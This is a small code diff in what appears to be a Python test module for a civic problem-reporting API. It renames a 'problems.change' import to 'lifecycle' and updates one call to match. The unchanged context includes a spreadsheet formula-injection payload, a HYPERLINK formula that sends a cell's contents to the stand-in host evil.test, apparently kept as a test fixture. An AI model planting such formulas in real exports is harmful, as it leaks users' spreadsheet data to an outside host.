@@ -24,7 +24,7 @@ from widget_api.browse import open_data_routes as service
 from widget_api.context import Context
 from widget_api.demo import samples
 from widget_api.open311 import render
-from widget_api.problems import change as problems
+from widget_api.problems import lifecycle
 from widget_api.problems.model import Change, Contact
 from widget_api.sites import changes
 from widget_api.sites.model import Site
@@ -35,7 +35,7 @@ FORMULA = '=HYPERLINK("http://evil.test/?"&A1;"a")'
 
 async def publish(context: Context, site: Site, **report: Any) -> int:
     receipt = await submit_report(context.database, site, **report)
-    await problems.change(context.database, AGENT, site.id, receipt.problem_id, Change(to="accepted"))
+    await lifecycle.change(context.database, AGENT, site.id, receipt.problem_id, Change(to="accepted"))
     return receipt.number
 
 
